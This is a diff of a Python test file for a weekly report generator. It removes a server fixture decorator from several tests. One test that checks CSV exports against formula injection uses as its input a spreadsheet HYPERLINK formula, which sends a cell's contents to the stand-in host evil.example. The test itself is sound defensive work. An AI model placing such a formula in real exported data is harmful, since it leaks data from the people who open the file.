@@ -172,7 +172,6 @@ def test_backlog_conversion_and_notifications(small):
     ]
 
 
-@pytest.mark.usefixtures("prefect_server")
 def test_report_renders_its_charts_and_exports_tables(small, tmp_path):
     page = tmp_path / "r.html"
     result = report(period="2026-W10", out=str(page), as_of=AS_OF, warehouse=str(small))
@@ -318,7 +317,6 @@ def test_a_table_folder_stopped_half_way_is_still_the_reports(tmp_path, warehous
         check_output(folder, "csv", warehouse=warehouse, force=False)
 
 
-@pytest.mark.usefixtures("prefect_server")
 def test_the_report_replaces_its_own_page_and_another_only_when_forced(small, tmp_path):
     """The weekly schedule re-runs into its default page beside the warehouse; a page someone
     else wrote there is kept unless forced."""
@@ -338,7 +336,6 @@ def test_the_report_replaces_its_own_page_and_another_only_when_forced(small, tm
     assert not list(tmp_path.glob(".*.partial"))
 
 
-@pytest.mark.usefixtures("prefect_server")
 def test_tables_beside_the_warehouse_keep_everything_else(small):
     folder = small.parent
     (folder / "notes.txt").write_text("mine", encoding="utf-8")
@@ -350,7 +347,6 @@ def test_tables_beside_the_warehouse_keep_everything_else(small):
     assert query(small, "SELECT count(*) AS n FROM leads")["n"].item() == len(LEADS)
 
 
-@pytest.mark.usefixtures("prefect_server")
 def test_csv_cells_cannot_run_as_formulas(small, tmp_path):
     """Reference text such as a product name reaches the conversion table as it was entered."""
     product = '=HYPERLINK("http://evil.example/?"&A1,"open")'
@@ -442,7 +438,6 @@ def test_tiles_show_the_change_from_the_period_before():
     assert shown["Warm compliance"].change == "no earlier figure vs 2026-W09"
 
 
-@pytest.mark.usefixtures("prefect_server")
 def test_the_page_has_human_headers_totals_rows_and_sc_names(small, tmp_path):
     page = tmp_path / "r.html"
     report(period="2026-W10", out=str(page), as_of=AS_OF, warehouse=str(small))
